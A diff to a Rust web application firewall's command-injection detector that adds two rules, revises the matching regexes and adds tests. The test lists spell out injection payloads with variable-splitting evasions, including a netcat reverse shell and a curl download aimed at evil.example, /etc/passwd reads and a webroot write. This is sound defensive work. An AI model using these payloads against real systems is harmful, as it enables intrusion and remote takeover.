@@ -105,6 +105,18 @@ pub static RULES: &[Rule] = &[
         2,
         "shell variable executed as a command",
     ),
+    rule(
+        1316,
+        Severity::Critical,
+        2,
+        "backticked command with an argument after a space (inline code in prose)",
+    ),
+    rule(
+        1317,
+        Severity::Critical,
+        2,
+        "line break followed by a command, within text of several lines or after a line of words",
+    ),
 ];
 
 /// Command words: Unix utilities, interpreters, network tools and Windows commands.
@@ -143,21 +155,25 @@ const NUMARG: &str = "sleep|ping|timeout|kill|usleep";
 static SHELL: LazyLock<Bank> = LazyLock::new(|| {
     let ws = r"[\s+]";
     // An argument that makes a command word a command: a flag, a path, a variable, a quote, a
-    // redirection, a drive, a number or address, a dotted name, a URL.
-    let arg = r"(?:-{1,2}[a-z0-9]|[/\\~$`'<>]|[a-z]:(?:[\\/]|$|[\s+|;&])|(?:[0-9]{1,3}\.){3}[0-9]{1,3}|[a-z][a-z0-9_-]*\.(?:[a-z]{2,4}|[0-9]+)\b|https?:|ftp:)";
+    // redirection, a drive, a number or address, a dotted name, a URL; or a redirection glued
+    // to the command (`cat</etc/passwd`, `id>o`, `id 2>&1`).
+    let arg = r"(?:{ws}+(?:-{1,2}[a-z0-9]|[/\\~$`'<>]|[a-z]:(?:[\\/]|$|[\s+|;&])|(?:[0-9]{1,3}\.){3}[0-9]{1,3}|[a-z][a-z0-9_-]*\.(?:[a-z]{2,4}|[0-9]+)\b|https?:|ftp:|[0-9][<>])|[<>])".replace("{ws}", ws);
     let sep = r"(?:[;|&\n\r]|\$\()";
-    let end = r"(?:$|[;|&`)\n\r'\x22\\])";
+    // What may end a command that needs no argument: the end of the value, a metacharacter, a
+    // quote, a redirection (`id>o`, `sh</tmp/x`, `id 2>&1`) or a comment (`id #`, not `id #12`).
+    let end = r"(?:$|[;|&`)\n\r'\x22\\<>]|{ws}#(?:$|[^0-9a-z])|{ws}[0-9][<>])".replace("{ws}", ws);
     let p1300 = format!(
-        r"{sep}{ws}*(?:(?:{NOARG})(?:\.exe)?{ws}*{end}|(?:{CMDS})(?:\.exe)?{ws}+{arg}|(?:{NUMARG})(?:\.exe)?{ws}+[0-9])"
+        r"{sep}{ws}*(?:(?:{NOARG})(?:\.exe)?{ws}*{end}|(?:{CMDS})(?:\.exe)?{arg}|(?:{NUMARG})(?:\.exe)?{ws}+[0-9]|ps{ws}+(?:aux|axu|ax|au|-?ef)w*\b)"
     );
     let p1300b = format!(r"{sep}{ws}*(?:{STRONG})(?:\.exe)?\b");
     // Command substitution with backticks: at the start of the value or glued to what
-    // precedes it (`a`id``), any command; after a space (inline code in prose), only a
-    // command with an argument shape.
+    // precedes it (`a`id``, `a;`id``, `'`id`'`), any command. After a space, inline code in
+    // prose (`run `ls -la` first`) reads the same: paranoia 2 (1316), and only a command with
+    // an argument shape.
     let p1300c = format!(
         r"(?:^[\s+'\x22(=]*|[a-z0-9_=;|&'\x22)])`{ws}*(?:{CMDS}|true|false)(?:\.exe)?(?:{ws}[^`]*)?`"
     );
-    let p1300d = format!(r"`{ws}*(?:{CMDS})(?:\.exe)?{ws}+{arg}[^`]*`");
+    let p1316 = format!(r"`{ws}*(?:{CMDS})(?:\.exe)?{arg}[^`]*`");
     // A value that starts with a command and chains another one.
     let p1300e = format!(r"^[\s+'\x22(]*(?:{NOARG})(?:\.exe)?{ws}*(?:[;|&`]|\$\()");
     // The whole value a command line: a command, then argument-shaped tokens (flags, paths,
@@ -258,7 +274,7 @@ static SHELL: LazyLock<Bank> = LazyLock::new(|| {
         (0, p1300),
         (0, p1300b),
         (0, p1300c),
-        (0, p1300d),
+        (16, p1316),
         (0, p1300e),
         (1, p1301),
         (1, p1301b),
@@ -282,15 +298,26 @@ static SHELL: LazyLock<Bank> = LazyLock::new(|| {
 
 /// Patterns over the decoded view (case kept, so `(?i)`): what the shell view erases.
 static DECODED: LazyLock<Bank> = LazyLock::new(|| {
-    let nl = format!(
-        r"(?i)[\n\r][\s+]*(?:(?:{NOARG})(?:\.exe)?[ \t+]*(?:$|[;|&])|(?:{CMDS})(?:\.exe)?[\s+]+(?:-{{1,2}}[a-z]|/|[a-z]:[\\/]|\$))"
+    // A command at the start of a line: a command that needs no argument (then the end of the
+    // value or of the line, a metacharacter, a redirection or a comment), a command with a flag,
+    // path, drive or variable, or a rare command word.
+    let command = format!(
+        r"(?:(?:{NOARG})(?:\.exe)?[ \t+]*(?:$|[;|&#<>])|(?:{CMDS})(?:\.exe)?[\s+]+(?:-{{1,2}}[a-z]|/|[a-z]:[\\/]|\$)|(?:{STRONG})(?:\.exe)?\b)"
     );
-    let nl_strong = format!(r"(?i)[\n\r][\s+]*(?:{STRONG})(?:\.exe)?\b");
+    // Paranoia 1: the value is `word<line break>command` — one word (or nothing, but no
+    // backticks: a Markdown fence) before the first line break, and nothing after the command's
+    // line but blank lines or a `#` comment (`x\nid`, `127.0.0.1\ncat /etc/passwd\n`).
+    let nl = format!(
+        r"(?i)^[^\s`]*[\r\n]+[ \t+]*(?:{command}[^\r\n]*|(?:{NOARG})(?:\.exe)?[ \t+]*)(?:[\r\n][\s+]*(?:#[^\r\n]*)?)*$"
+    );
+    // Paranoia 2 (1317): the same command line anywhere in text of several lines, or after a
+    // line of words (steps to reproduce, a support ticket, a Markdown code block).
+    let nl_text = format!(r"(?i)[\n\r][\s+]*{command}");
     // A value that opens with a line break and a command on its own line.
     let nl_first = format!(r"(?i)^[\r\n]+[ \t+]*(?:{NOARG})(?:\.exe)?[ \t+]*(?:[\r\n]|$)");
     let pats: Vec<(usize, String)> = vec![
         (0, nl),
-        (0, nl_strong),
+        (17, nl_text),
         (0, nl_first),
         (6, r"(?i)\$\{?ifs\b".to_string()),
         (6, r"(?i)[a-z]\$@[a-z]".to_string()),
@@ -485,6 +512,155 @@ mod tests {
 
     fn blocked(v: &str) -> bool {
         crate::detect::testing::score(inspect, v) >= 5
+    }
+
+    /// Percent-encodes everything but unreserved characters.
+    fn pct(v: &str) -> String {
+        v.bytes()
+            .map(|b| {
+                if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
+                    (b as char).to_string()
+                } else {
+                    format!("%{b:02X}")
+                }
+            })
+            .collect()
+    }
+
+    /// The whole engine at its defaults, `v` as a query parameter or as a JSON string field.
+    fn engine(v: &str, json: bool) -> crate::engine::Outcome {
+        use crate::engine::{BodyState, Inspection, inspect};
+        let uri = if json {
+            "/orders".to_string()
+        } else {
+            format!("/orders?q={}", pct(v))
+        };
+        let body = if json {
+            serde_json::json!({ "q": v }).to_string()
+        } else {
+            String::new()
+        };
+        let (head, ()) = http::Request::builder()
+            .method(if json { "POST" } else { "GET" })
+            .uri(uri)
+            .header("content-type", "application/json")
+            .body(())
+            .unwrap()
+            .into_parts();
+        inspect(
+            &crate::config::RouteWaf::default(),
+            &Inspection {
+                head: &head,
+                path: "/orders",
+                client_ip: "192.0.2.1".parse().unwrap(),
+                body: if json {
+                    BodyState::Buffered(body.as_bytes())
+                } else {
+                    BodyState::None
+                },
+            },
+        )
+    }
+
+    /// Unset variables splitting command words, and redirections or a comment ending a
+    /// command: blocked by this detector and by the whole engine, in a query and in JSON.
+    const SPLIT_AND_REDIRECTED: &[&str] = &[
+        "127.0.0.1;wh${u}oami",
+        "x;i${u}d",
+        "x;${u}id",
+        "x;id$u",
+        "x;i${u:-}d",
+        "x;i${!u}d",
+        "x;i${#u}d",
+        "x$(i${u}d)",
+        "x`wh${u}oami`",
+        "x;c${u}url http://evil.example/x -o /tmp/x",
+        "x|n${u}c -e /b${u}in/sh evil.example 4444",
+        "x;sl${u}eep 10",
+        "x;id>/var/www/html/o.txt",
+        "x;sh</tmp/x",
+        "x;bash<x",
+        "x;id #",
+        "x;id # rest",
+        "x;id 2>&1",
+        "x;ps aux",
+        "x;cat</etc/passwd",
+        "x;w'h'$u\"o\"ami",
+    ];
+
+    /// Commands quoted in prose, and look-alikes of the rules above.
+    const PROSE: &[&str] = &[
+        "Run `ls -la` to list the files",
+        "Try `ping 8.8.8.8` first",
+        "Steps to reproduce:\ncurl -X POST https://api.example.com/items\nExpected 200, got 500",
+        "```\ntail -f app.log\n```",
+        "```bash\ntail -f app.log\n```\nthen restart",
+        "The host is down.\nping -c 4 example.com\nand nothing comes back",
+        "Could you check?\nwhoami says root\nThanks",
+        "$5 off",
+        "Price: $10;",
+        "C# / F#",
+        "a > b",
+        "x < 3",
+        "#hashtag",
+        "see #12",
+        "Order shipped; id #4521 is late",
+        "6-4; set #2 went to a tiebreak",
+        "Tom & Jerry; users #growth",
+        "azoem$ia",
+        "US$5; ps: see you",
+        "tom & jerry > all",
+        "name\nid\nemail",
+        "Hello ${name}, your id is ${id}",
+    ];
+
+    #[test]
+    fn split_words_and_redirections() {
+        for v in SPLIT_AND_REDIRECTED {
+            assert!(blocked(v), "not blocked: {v:?} -> {:?}", ids(v, 1));
+            for json in [false, true] {
+                let o = engine(v, json);
+                assert!(o.blocked, "engine (json {json}) let through {v:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn prose_and_look_alikes() {
+        for v in PROSE {
+            assert!(!blocked(v), "blocked: {v:?} -> {:?}", ids(v, 1));
+            for json in [false, true] {
+                let o = engine(v, json);
+                let r: Vec<u32> = o.findings.iter().map(|f| f.finding.rule).collect();
+                assert!(!o.blocked, "engine (json {json}) blocked {v:?}: {r:?}");
+            }
+        }
+        // Inline code and command lines in text are still paranoia-2 findings.
+        assert!(ids("Run `ls -la` to list the files", 2).contains(&1316));
+        assert!(ids("Try `ping 8.8.8.8` first", 2).contains(&1316));
+        assert!(ids("The host is down.\nping -c 4 example.com\nthen", 2).contains(&1317));
+        assert!(ids("```\ntail -f app.log\n```", 2).contains(&1317));
+    }
+
+    #[test]
+    fn backticks_and_line_breaks_that_stay_at_paranoia_1() {
+        for v in [
+            "x`id`",
+            "a;`id`",
+            "'`id`'",
+            "`cat /etc/passwd`",
+            "x\nid",
+            "x%0aid",
+            "x%0aid%0a",
+            "127.0.0.1\ncat /etc/passwd",
+            "127.0.0.1\r\nwhoami\r\n",
+            "x\nid #",
+            "x\nid\n# comment",
+            "\nid\n",
+            "a\nnetstat -an",
+        ] {
+            assert!(blocked(v), "not blocked: {v:?} -> {:?}", ids(v, 1));
+        }
     }
 
     #[test]
